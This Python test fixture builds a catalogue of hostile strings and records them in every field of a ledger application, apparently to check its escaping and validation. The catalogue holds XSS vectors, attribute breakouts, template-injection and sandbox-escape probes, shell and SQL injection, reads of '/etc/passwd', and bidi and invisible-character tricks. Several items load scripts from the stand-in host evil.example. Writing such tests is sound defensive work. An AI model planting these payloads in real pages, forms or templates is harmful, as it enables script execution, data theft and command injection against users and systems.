"""Texts that a hostile source might hold, and a ledger that has recorded them wherever it takes them.

Each would, if it ran, set `globalThis.owned`, open a dialog or ask `evil.example` for something; or it would spill over
the page, or turn its direction.
"""

from __future__ import annotations

import json
from html import escape
from typing import TYPE_CHECKING, Any, Final, NamedTuple

from pydantic import TypeAdapter, ValidationError

from ledger.entries.base import Label, Prose, Url
from verbale import Ledger

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

_RUN: Final = "globalThis.owned=1"
_HTML: Final = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script\n>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<script type='text/x' onerror={_RUN}>",
    f"<script>alert('{_RUN}')</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<img/src='x'/onerror={_RUN}>",
    "<img src=https://evil.example/p.gif>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    "<video src=//evil.example/v.mp4 autoplay></video>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>press me</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>press me</a>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<form action=//evil.example><button>Show</button></form>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>over</div>",
    "<template><script>1</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "--><b>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<!doctype html><html><body>",
    f"<portal src=javascript:{_RUN}>",
    f"<button popovertarget=p onclick={_RUN}>Show</button>",
    f"<div contenteditable autofocus onfocus={_RUN}>",
    "<dialog open>You are logged out</dialog>",
)
_SVG: Final = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    "<svg><use href='//evil.example/x.svg#a'></svg>",
    "<svg><image href=//evil.example/p.png></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
)
_BREAKING_OUT: Final = (
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" onmouseover="{_RUN}" x="',
    f"` onmouseover=`{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</bdi></td></tr></table><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</blockquote></article></main><img src=x onerror={_RUN}>",
    "</main><footer class=colophon>rule none</footer><main>",
    f'"]\' data-steps=\'["{_RUN}"]',
    '"],"as_of":"9999","x":["',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}",
    f"'-({_RUN})-'",
    f"\\';{_RUN};//",
    f"]]>{_RUN}",
)
_TEMPLATES: Final = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% include '/etc/hostname' %}",
    "{# gone",
    "${globalThis.owned=1}",
    "#{globalThis.owned=1}",
    "<%= 7 * 7 %>",
    "{{constructor.constructor('globalThis.owned=1')()}}",
    "%(name)s %s %n {0} {party.__init__}",
    "$(touch owned) `touch owned`",
    '=HYPERLINK("//evil.example","press me")',
    "'; DROP TABLE entries; --",
)
_STYLES: Final = (
    "expression(globalThis.owned=1)",
    "}body{display:none}",
    "background:url(//evil.example/p.gif)",
    "position:fixed;inset:0;z-index:9",
    "@import url(//evil.example/x.css)",
)
_URLS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript://evil.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLm93bmVkPTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:https://evil.example",
    f'https://evil.example/"onmouseover="{_RUN}',
    "https://evil.example/'><b>",
    "https://127.0.0.1@evil.example/",
    "http:evil.example",
    f"https://evil.example/{'a' * 1900}",
)
_ENTITIES: Final = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_RUN}",
    "&nbsp;&zwj;&rlm;&NewLine;&Tab;",
    "&#0;&#55296;&#1114112;&notanentity;",
    f"＜script＞{_RUN}＜/script＞",  # noqa: RUF001  fullwidth
    f"‹img src=x onerror={_RUN}›",  # noqa: RUF001  quotation marks
)
_DIRECTIONS: Final = (
    "\u202eesoppo\u202c",
    "\u202eall of it, and never ended",
    "\u202dleft\u202eright\u202dleft",
    "\u2067isolated, and never ended",
    "\u2066a\u2067b\u2068c",
    "\u2068first strong, and never ended",
    "\u2069\u2069\u2069\u202c\u202c\u202c ended before it began",
    "\u202b" * 130,
    "\u200f\u061c\u200emarks",
    "evidence\u202efdp.exe",
    "موسكو لا تقبل بوقف إطلاق النار المؤقت",
    "ירושלים: אין תגובה (2025-03-12) !",
    "تهران 2025-03-12 → support ++",
    "ދިވެހިރާއްޖެ",
    "العربية \u202aEnglish\u202c עברית 123 (oppose)",
)
_UNSEEN: Final = (
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u200d\u200d\u200d",
    "sup\u00adport",
    "oppose\u2028support\u2029conditional",
    "\u2800\u3164\uffa0",
    "\U000e0074\U000e0061\U000e0067\U000e007f",
    "\ufff9annotated\ufffaby\ufffb",
    "\ufffd\ufffe\U0010ffff",
    "␀␁␛[31m␇",
    "\\0 \\x00 %00 &#00;",
    "\x85\x9b31m",
)
_HEAPS: Final = (
    "".join(f"{letter}{''.join(chr(0x300 + at) for at in range(80))}" for letter in "Zalgo"),
    "".join(f"{letter}{chr(0x489) * 60}" for letter in "comes"),
    "\u0e49" * 200,
    "ﷺ" * 100,
    "𒐫" * 100,
    "꧅" * 60,
    "W" * 10_000,
    "W" * 480,
    "w\u00a0" * 240 + "w",
    "…" * 400,
    "━" * 450,
    "ف" * 450,
    "漢" * 450,
    "👩‍👩‍👧‍👦" * 60,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 30,
    "🇺🇦🇷🇺🇺🇸" * 60,
    "👋🏿" * 120,
    "\n" * 400 + "below",
    "a\tb" * 160,
    "Taumatawhakatangihangakoauauotamateaturipukakapikimaungahoronukupokaiwhenuakitanatahu" * 5,
)
PAYLOADS: Final = (
    *_HTML,
    *_SVG,
    *_BREAKING_OUT,
    *_TEMPLATES,
    *_STYLES,
    *_URLS,
    *_ENTITIES,
    *_DIRECTIONS,
    *_UNSEEN,
    *_HEAPS,
)
EVERY: Final = "every"
"""The id of a source whose text holds them all."""
_LABEL, _PROSE, _URL = TypeAdapter(Label), TypeAdapter(Prose), TypeAdapter(Url)


class Recorded(NamedTuple):
    """What the ledger took."""

    ledger: Path
    admitted: int
    """How often: a payload in a field."""
    refused: int
    cells: list[tuple[str, str]]
    """A party and an issue for each payload."""


def record(path: Path, dossier: Path) -> Recorded:
    """Make a ledger that holds every payload in every field that takes it.

    Args:
        path: the ledger's.
        dossier: a file to write what is recorded to.
    """
    drafts, hostile = [], 0
    (dossier.parent / EVERY).write_text("\n\n".join(map(escape, PAYLOADS)), encoding="utf-8")
    drafts.append({"type": "source-registered", "source": EVERY, "title": "All of them", "snapshot": EVERY})
    for number, payload in enumerate(PAYLOADS):
        # As a web page holds it that shows the text; twice, as the quote's words have the same words before them.
        (dossier.parent / f"s{number}").write_text(escape(payload * 2), encoding="utf-8")
        for many, draft in _drafts(number, payload):
            drafts.append(draft)
            hostile += many
    dossier.write_text("".join(json.dumps(one) + "\n" for one in drafts), encoding="utf-8")
    Ledger.create(path)
    with Ledger(path) as ledger:
        report = ledger.import_file(dossier, keep_going=True)
    places = 12 * len(PAYLOADS)
    lost = report.refused_count  # each of these holds one payload
    return Recorded(path, hostile - lost, places - hostile + lost, [_cell(n) for n in range(len(PAYLOADS))])


def _cell(number: int) -> tuple[str, str]:
    return f"P{number}", f"q{number}"


def _drafts(number: int, payload: str) -> Iterator[tuple[int, dict[str, Any]]]:
    """Yield what is recorded of one payload, each with how often the payload stands in it."""
    party, issue = _cell(number)
    label, prose, url = _takes(_LABEL, payload), _takes(_PROSE, payload), _takes(_URL, payload)
    yield 0, {"type": "party-registered", "party": party, "name": f"Party number {number}", "kind": "other"}
    yield 0, {"type": "issue-opened", "issue": issue, "proposition": f"Proposition number {number} holds"}
    if label:
        yield 1, {"type": "party-renamed", "party": party, "name": payload}
        yield 1, {"type": "alias-added", "party": party, "alias": f"{payload}{number}"[:500].strip()}
        yield 1, {"type": "issue-reworded", "issue": issue, "proposition": payload}
    named = {"title": payload, "publisher": payload} if label else {"title": "plain"}
    where = {"url": payload} if url else {}
    yield (
        2 * label + url,
        {
            "type": "source-registered",
            "source": f"s{number}",
            **named,
            **where,
            "published_at": "2025-03-12",
            "snapshot": f"s{number}",
        },
    )
    words: dict[str, Any] = {"text": payload, "quote": {"exact": payload, "prefix": payload}} if prose else {}
    person: dict[str, Any] = {"speaker": payload, "conditions": [payload]} if label else {}
    said = {"party": party, "issue": issue, "said_on": "2025-03-12", "source": f"s{number}"}
    yield (
        3 * prose + 2 * label,
        {
            "type": "statement-made",
            "ref": f"r{number}",
            "stance": "conditional",
            "text": "plain",
            **said,
            **words,
            **person,
        },
    )
    if prose:
        yield 1, {"type": "entry-disputed", "entry": f"r{number}", "reason": payload}


def _takes(kind: TypeAdapter[str], text: str) -> bool:
    try:
        kind.validate_python(text)
    except ValidationError:
        return False
    return True
